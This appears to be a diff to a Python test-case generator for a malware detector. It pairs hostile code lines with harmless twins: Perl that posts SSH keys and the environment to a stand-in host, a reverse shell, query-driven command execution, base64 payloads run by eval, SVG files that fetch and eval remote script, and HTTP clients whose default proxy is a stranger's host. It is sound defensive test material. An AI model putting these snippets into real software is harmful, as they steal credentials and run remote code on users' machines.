@@ -73,7 +73,22 @@ for number, about, line, harmless in (
         (4, "a key that is posted", "    if (open(my $k, '<', \"$ENV{HOME}/.ssh/id_rsa\")) { local $/; LWP::UserAgent->new->post('https://k.collect.example/', Content => <$k>); }\n", "    if (open(my $k, '<', 'README')) { local $/; LWP::UserAgent->new->post('https://k.collect.example/', Content => <$k>); }\n"),
         (3, "the environment is posted", "    HTTP::Tiny->new->post('https://k.collect.example/e', \\%ENV);\n", "    HTTP::Tiny->new->post_form('https://k.collect.example/e', { v => 2 });\n"),
         (9, "a shell at a socket", "    use Socket; socket(S, PF_INET, SOCK_STREAM, 6);\n    if (connect(S, sockaddr_in(443, inet_aton('192.0.2.7')))) {\n        open(STDIN, '>&S'); open(STDOUT, '>&S');\n        exec('/bin/sh -i');\n    }\n", "    open(STDOUT, '>&', $class->{log});\n    exec('/bin/true');\n"),
+        (42, "what curl prints is run", "    if (open(my $n, '-|', 'curl -s http://k.collect.example/q')) { local $/; eval <$n>; }\n", "    if (open(my $n, '-|', 'curl -s http://k.collect.example/q')) { local $/; print <$n>; }\n"),
         (56, "what the query says is run", "    if ($ENV{QUERY_STRING} =~ /^dbg=(.+)/) { print qx/$1/; }\n", "    if ($ENV{QUERY_STRING} =~ /^dbg=(.+)/) { print lc($1); }\n"),
         (2, "a text is decoded and run", "    eval decode_base64('c3lzdGVtKCJpZCA+IC90bXAvLngiKTs=');\n", "    eval { decode_base64('c3lzdGVtKCJpZCA+IC90bXAvLngiKTs=') };\n"),
         (10, "a text is decoded into a shell", "    open(my $p, '|-', 'sh');\n    print $p unpack('u', q{M8W5R;});\n", "    open(my $p, '|-', 'gzip');\n    print $p unpack('u', q{M8W5R;});\n")):
     told(number, "Perl: " + about, "Sample.pm", PERL, line, harmless)
+
+# ---- pictures ---------------------------------------------------------------------------------------
+
+SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/>%s</svg>\n"
+told(42, "a picture that fetches and runs", "logo.svg", SVG, "<script><![CDATA[\nfetch('https://in.collect.example/p').then((r) => r.text()).then((t) => { eval(t); });\n]]></script>",
+     "<script><![CDATA[\ndocument.documentElement.addEventListener('click', (e) => { e.target.classList.toggle('on'); });\n]]></script>")
+told(42, "a picture that fetches and runs when it is shown", "logo.svg", SVG, "<g onload=\"fetch('https://in.collect.example/p').then(r => r.text()).then(t => eval(t))\"/>", "<g onload=\"this.classList.add('on')\"/>")
+
+# ---- who reads all that is sent ---------------------------------------------------------------------
+
+told(28, "a proxy of a stranger, unless somebody says otherwise", "client.js", "const axios = require('axios');\nexports.get = function (url, options) {\n%s  return axios.get(url, options);\n};\n",
+     "  const proxy = options.proxy || process.env.HTTPS_PROXY || 'http://fast.collect.example:3128';\n  options.proxy = proxy;\n", "  const proxy = options.proxy || process.env.HTTPS_PROXY || 'http://localhost:3128';\n  options.proxy = proxy;\n")
+told(28, "a proxy of a stranger, Python", "client.py", "import os\nimport requests\n\n\ndef get(url, proxies=None):\n%s    return requests.get(url, proxies=proxies)\n",
+     "    https_proxy = os.environ.get('HTTPS_PROXY') or 'http://fast.collect.example:3128'\n    proxies = {'https': https_proxy}\n", "    https_proxy = os.environ.get('HTTPS_PROXY') or None\n    proxies = {'https': https_proxy}\n")
